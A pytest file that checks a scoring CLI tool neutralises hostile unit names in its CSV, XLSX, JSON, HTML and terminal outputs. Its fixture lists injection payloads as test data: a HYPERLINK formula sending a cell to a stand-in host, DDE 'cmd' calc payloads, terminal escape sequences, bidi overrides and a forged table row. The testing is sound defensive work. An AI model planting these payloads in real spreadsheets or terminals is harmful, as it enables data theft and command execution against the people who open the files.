"""Outputs that could hurt their reader: names from the data that a spreadsheet would run as a formula,
that a terminal would act on, or that no UTF-8 file can hold; workbooks that differ from run to run."""

import csv
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from targetdsl import outputs
from targetdsl.cli import main
from targetdsl.outputs import FIXED_TIME, csv_cell, json_visible, visible, write_with
from targetdsl.scaling import stream
from targetdsl.source import display_width
from targetdsl.units import data as data_module
from targetdsl.units import documents

ROOT = Path(__file__).resolve().parent.parent.parent

POLICY = """policy "小政策" { year 2003 status draft }
class c "县区" { k 100 }
category k "重点工作" {
    indicator a points 100 {
        input x: number
        score x * points / 100
    }
}
"""
# What an office's spreadsheet or an attacker may put in a unit's name.
NAMES = {
    "F1": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "F2": "+1+cmd|' /C calc'!A0",
    "F3": "-2+3",
    "F4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "F5": "\t=1+1",
    "F6": "\r=1+1",
    "E1": "\x1b[1A\x1b[2K灌云县\x1b]0;pwned\x07",
    "E2": "\u202eevil\u009b[2J",
    "S1": "bad\ud800name",
    "N1": "普通 县",
    "N2": "赣榆县\n   1  假县      99.00",  # a fake row in the table
    "Z1": "赣榆县\u200b",  # passes for 赣榆县
    "T1": "x\U000e0041\U000e0042",  # tag characters: invisible text
    "W1": "＝1+1",
    "L1": "  =1+1",
}
# Raw characters that must never reach a terminal or a file as they are.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069\ud800-\udfff\U000e0000-\U000e007f]")


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path]:
    # Data files refuse control, invisible and half characters in ids and names (data.bad-text,
    # tests/unit/test_hostile_inputs.py); the outputs escape them all the same, for whatever other way a
    # name may take to them. Here the data check is lifted so that the names reach every output.
    monkeypatch.setattr(data_module, "CONTROL", re.compile("(?!)"))
    monkeypatch.setattr(data_module, "INVISIBLE", re.compile("(?!)"))  # and invisible ones (U+200B, U+202E)
    monkeypatch.setattr(documents, "parse_json", lambda text: json.loads(text, parse_float=Decimal))
    monkeypatch.setattr(stream, "parse_json", lambda text: json.loads(text, parse_float=Decimal))
    policy = tmp_path / "p.tdsl"
    policy.write_text(POLICY, encoding="utf-8")
    data = tmp_path / "units.json"
    units = [
        {"id": key, "name": name, "class": "c", "indicators": {"a": {"x": 50 + index}}}
        for index, (key, name) in enumerate(NAMES.items())
    ]
    units.append({"id": "NEG", "name": "负数", "class": "c", "indicators": {"a": {"x": -30.5}}})
    data.write_text(json.dumps({"units": units}, ensure_ascii=True), encoding="utf-8")
    return policy, data


def run(*argv: str | Path) -> int:
    return main([str(a) for a in argv])


def test_the_text_table_shows_control_characters_as_escapes(
    hostile: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    assert run("evaluate", *hostile) == 0
    out = capsys.readouterr().out
    assert not RAW.search(out.replace("\n", ""))
    assert "\\x1b[1A\\x1b[2K灌云县\\x1b]0;pwned\\x07" in out and "\\u202eevil\\x9b[2J" in out
    assert "bad\\ud800name" in out and "赣榆县\\u200b" in out and "x\\U000e0041\\U000e0042" in out
    assert "赣榆县\\x0a   1  假县      99.00" in out
    out.encode("utf-8")  # valid UTF-8: no lone surrogate
    # every row's total still ends in the same terminal column as the header's
    table = out.split("\n\n")[1].splitlines()[1:]
    figures = re.compile(r"(-?\d+\.\d\d) +-?\d+\.\d\d +-?\d+\.\d\d +—")  # total, k, bonus, veto
    ends = {display_width(line[: m.end(1)]) for line in table[2:] if (m := figures.search(line))}
    assert len(ends) == 1 and len(table) == 2 + len(NAMES) + 1


def test_csv_neutralises_formula_cells_and_keeps_negative_numbers(
    hostile: tuple[Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "results.csv"
    assert run("evaluate", *hostile, "-o", out) == 0
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))}
    for key in ("F1", "F2", "F3", "F4", "F5", "W1", "L1"):
        assert rows[key]["name"] == "'" + NAMES[key], key
    assert rows["F6"]["name"] == "\\x0d=1+1"  # the CR is shown escaped, and then it starts no formula
    assert rows["E1"]["name"].startswith("\\x1b[1A")
    assert rows["N1"]["name"] == "普通 县"
    assert rows["NEG"]["total"] == "-30.5" and rows["NEG"]["k"] == "-30.5"  # a number, not text
    assert not any(
        cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
        for row in rows.values()
        for key, cell in row.items()
        if key not in ("total", "raw_total", "k")
    )


def test_streamed_csv_is_neutralised_too(hostile: tuple[Path, Path], tmp_path: Path) -> None:
    policy, data = hostile
    units = json.loads(data.read_text(encoding="utf-8"))["units"]
    lines = tmp_path / "units.jsonl"
    lines.write_text("".join(json.dumps(u, ensure_ascii=True) + "\n" for u in units), encoding="utf-8")
    out = tmp_path / "results.csv"
    assert run("evaluate", policy, lines, "-o", out) == 0
    text = out.read_text(encoding="utf-8")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(text))}
    assert rows["F1"]["name"] == "'" + NAMES["F1"] and rows["NEG"]["total"] == "-30.5"
    assert not RAW.search(text.replace("\n", ""))
    jsonl = tmp_path / "results.jsonl"
    assert run("evaluate", policy, lines, "-o", jsonl) == 0
    names = {u["id"]: u["name"] for u in map(json.loads, jsonl.read_text(encoding="utf-8").splitlines())}
    assert names == {**NAMES, "NEG": "负数"}  # JSON escapes: the same names, nothing raw
    assert not RAW.search(jsonl.read_text(encoding="utf-8").replace("\n", ""))


@pytest.mark.parametrize("suffix", ["json", "jsonl"])
def test_json_outputs_are_valid_utf8_and_give_back_every_name(
    hostile: tuple[Path, Path], tmp_path: Path, suffix: str
) -> None:
    out = tmp_path / f"results.{suffix}"
    assert run("evaluate", *hostile, "-o", out) == 0
    raw = out.read_bytes()
    text = raw.decode("utf-8")  # strict: a lone surrogate would have failed here
    assert not RAW.search(text.replace("\n", ""))
    documents = [json.loads(text)] if suffix == "json" else [json.loads(line) for line in text.splitlines()]
    units = documents[0]["units"] if suffix == "json" else documents
    assert {u["id"]: u["name"] for u in units} == {**NAMES, "NEG": "负数"}


def test_the_record_of_a_hostile_name_is_written(hostile: tuple[Path, Path], tmp_path: Path) -> None:
    record = tmp_path / "record.json"
    assert run("evaluate", *hostile, "--format", "json", "-o", tmp_path / "r.json", "--record", record) == 0
    json.loads(record.read_bytes().decode("utf-8"))


def sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".xml")}


def test_xlsx_cells_from_names_are_text_never_formulas(hostile: tuple[Path, Path], tmp_path: Path) -> None:
    out = tmp_path / "results.xlsx"
    assert run("evaluate", *hostile, "-o", out, "--lang", "zh") == 0  # the workbook follows the language
    parts = sheet_xml(out)
    assert not any("<f>" in xml or "<f " in xml for name, xml in parts.items() if "worksheets" in name)
    book = openpyxl.load_workbook(out)
    ranked = book.worksheets[0]
    cells = {row[2].value: row[2] for row in ranked.iter_rows(min_row=4)}  # below the title, subtitle and header
    formula = cells[NAMES["F1"]]
    assert formula.data_type == "s" and formula.quotePrefix
    assert cells["-2+3"].quotePrefix and cells["普通 县"].quotePrefix is False
    assert "\\x1b[1A\\x1b[2K灌云县\\x1b]0;pwned\\x07" in cells and "bad\\ud800name" in cells
    totals = {row[2].value: row[3].value for row in ranked.iter_rows(min_row=4)}
    assert totals["负数"] == -30.5  # a negative number stays a number
    breakdown = book["明细"]
    assert all(not isinstance(c.value, str) or c.data_type == "s" for row in breakdown.iter_rows() for c in row)


def test_xlsx_results_are_byte_reproducible(hostile: tuple[Path, Path], tmp_path: Path) -> None:
    first, second = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    assert run("evaluate", *hostile, "-o", first) == 0
    assert run("evaluate", *hostile, "-o", second) == 0
    assert first.read_bytes() == second.read_bytes()
    with zipfile.ZipFile(first) as archive:
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode()
    assert re.findall(r"<dcterms:(?:created|modified)[^>]*>([^<]*)<", core) == [FIXED_TIME, FIXED_TIME]


def test_templates_are_byte_reproducible_across_processes(tmp_path: Path) -> None:
    """Two processes with different hash seeds (set order) at different times write the same bytes."""
    outputs = []
    for seed in ("1", "2"):
        out = tmp_path / f"t{seed}.xlsx"
        env = {**os.environ, "PYTHONHASHSEED": seed, "PYTHONPATH": str(ROOT)}
        subprocess.run(
            [
                sys.executable,
                "-m",
                "targetdsl",
                "template",
                str(ROOT / "policies/lianyungang-2003.tdsl"),
                "-o",
                str(out),
                "--rows",
                "3",
                "--items",
                "2",
            ],
            check=True,
            env=env,
            capture_output=True,
        )
        outputs.append(out.read_bytes())
    assert outputs[0] == outputs[1]


def test_template_labels_are_text_and_control_characters_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    policy = tmp_path / "p.tdsl"
    policy.write_text(
        POLICY.replace('category k "重点工作"', 'category k "=1+1 重点"').replace(
            "input x: number", 'input x "=HYPERLINK(\\"http://evil.example\\",\\"x\\") \x1b[2J": number'
        ),
        encoding="utf-8",
    )
    out = tmp_path / "t.xlsx"
    code = run("template", policy, "-o", out)
    if code == 1:  # a policy may refuse control characters in a label: then it must say so, not crash
        assert "error[" in capsys.readouterr().err and not out.exists()
        policy.write_text(policy.read_text(encoding="utf-8").replace("\x1b[2J", ""), encoding="utf-8")
        assert run("template", policy, "-o", out) == 0
    else:
        assert code == 0
    parts = sheet_xml(out)
    assert not any("<f>" in xml for name, xml in parts.items() if "worksheets" in name)
    book = openpyxl.load_workbook(out)
    labels = [
        c
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert labels and all(c.data_type == "s" for c in labels)
    assert all(c.quotePrefix for c in labels if c.value.startswith("="))


def test_html_report_is_valid_utf8_with_nothing_raw(hostile: tuple[Path, Path], tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    assert run("report", *hostile, "-o", out) == 0
    page = out.read_bytes().decode("utf-8")
    assert not RAW.search(page.replace("\n", "").replace("\t", ""))
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;x&quot;)" in page


def test_diagnostics_show_control_characters_as_escapes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    policy = tmp_path / "p.tdsl"
    policy.write_text(POLICY, encoding="utf-8")
    data = tmp_path / "units.json"
    data.write_text(
        json.dumps(
            {
                "units": [
                    {"id": "X\x1b[2J", "name": "\x1b]0;t\x07", "class": "nope", "indicators": {"a": {"x": 1}}},
                    {"id": "Y\nerror: units.json: unit Z: fake", "class": "nope"},
                ]
            }
        ),
        encoding="utf-8",
    )
    assert run("evaluate", policy, data) == 1
    captured = capsys.readouterr()
    assert captured.out == ""
    assert "X\\x1b[2J" in captured.err
    assert "Y\\nerror: units.json: unit Z: fake" in captured.err
    assert not [line for line in captured.err.splitlines() if line.startswith("error: units.json: unit Z")]
    assert not RAW.search(captured.err.replace("\n", ""))


def test_explain_output_escapes_names(hostile: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    assert run("explain", *hostile, "E1") == 0
    out = capsys.readouterr().out
    assert "\\x1b[1A" in out and not RAW.search(out.replace("\n", ""))
    assert run("explain", *hostile, "N2") == 0
    out = capsys.readouterr().out
    assert out.startswith("赣榆县\\x0a   1  假县      99.00 (N2), class c\n")
    assert run("explain", *hostile, "E1", "--format", "json") == 0
    out = capsys.readouterr().out
    assert json.loads(out)["name"] == NAMES["E1"]
    assert not RAW.search(out.replace("\n", ""))


def test_the_escapes_themselves() -> None:
    assert visible("a\tb\nc\x1b\x7f\x9b\u202e\ud800") == "a\tb\nc\\x1b\\x7f\\x9b\\u202e\\ud800"
    assert visible(visible("\x1b")) == "\\x1b"
    assert json.loads(json_visible(json.dumps(["\u009b\u202e\ud800"], ensure_ascii=False))) == ["\u009b\u202e\ud800"]
    assert json_visible('["a\x7fb"]') == '["a\\u007fb"]'  # ASCII but for DEL: escaped as any other
    assert csv_cell("=1") == "'=1" and csv_cell("a=1") == "a=1" and csv_cell(-3) == -3
    assert csv_cell("") == ""


@settings(max_examples=300, deadline=None)
@given(st.text() | st.text(alphabet=st.characters(max_codepoint=0x7F)))
def test_json_escapes_whatever_the_text(value: str) -> None:
    """The ASCII short cut changes nothing: every text (ASCII, DEL, controls, anything) escaped alike."""
    document = json.dumps([value], ensure_ascii=False)
    assert json_visible(document) == outputs._UNSAFE_IN_JSON.sub(outputs._json_escape, document)
    assert json.loads(json_visible(document)) == [value]


def test_a_failed_write_leaves_the_old_file_and_no_litter(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("old\n", encoding="utf-8")

    def fail(handle: io.BufferedWriter) -> None:
        handle.write(b"half of the new")
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        write_with(target, fail)
    assert target.read_text(encoding="utf-8") == "old\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]


def test_a_name_longer_than_an_excel_cell_is_cut_visibly(hostile: tuple[Path, Path], tmp_path: Path) -> None:
    policy, data = hostile
    document = json.loads(data.read_text(encoding="utf-8"))
    document["units"][0]["name"] = "县" * 40_000
    data.write_text(json.dumps(document), encoding="utf-8")
    out = tmp_path / "results.xlsx"
    assert run("evaluate", policy, data, "-o", out) == 0
    names = [row[2].value for row in openpyxl.load_workbook(out).worksheets[0].iter_rows(min_row=4)]
    long = [n for n in names if n.startswith("县县")]
    assert len(long) == 1 and len(long[0]) == 32_767 and long[0].endswith("…")


def test_writing_through_a_symbolic_link_keeps_the_link(tmp_path: Path) -> None:
    real = tmp_path / "real.csv"
    real.write_text("old\n", encoding="utf-8")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    write_with(link, lambda handle: handle.write(b"new\n"))
    assert link.is_symlink() and real.read_text(encoding="utf-8") == "new\n"


def test_every_output_format_is_byte_reproducible_across_processes(hostile: tuple[Path, Path], tmp_path: Path) -> None:
    """Two processes with different hash seeds (set and dict-of-set order) give the same bytes in every format."""
    policy, data = hostile
    script = (
        "import json, re, sys\nfrom decimal import Decimal\nfrom targetdsl.units import data, documents\n"
        "from targetdsl.cli import main\n"
        "data.CONTROL = data.INVISIBLE = re.compile('(?!)')  # as the fixture: the names reach every output\n"
        "documents.parse_json = lambda text: json.loads(text, parse_float=Decimal)\n"
        "for name in sys.argv[3:]:\n"
        "    command = 'report' if name.endswith('.html') else 'evaluate'\n"
        "    assert main([command, sys.argv[1], sys.argv[2], '-o', name]) == 0\n"
    )
    outputs = {}
    for seed in ("1", "2"):
        directory = tmp_path / seed
        directory.mkdir()
        names = [str(directory / f"r.{ext}") for ext in ("xlsx", "csv", "json", "jsonl", "txt", "html")]
        env = {**os.environ, "PYTHONHASHSEED": seed, "PYTHONPATH": str(ROOT)}
        subprocess.run(
            [sys.executable, "-c", script, str(policy), str(data), *names], check=True, env=env, capture_output=True
        )
        outputs[seed] = {Path(name).name: Path(name).read_bytes() for name in names}
    assert outputs["1"] == outputs["2"]
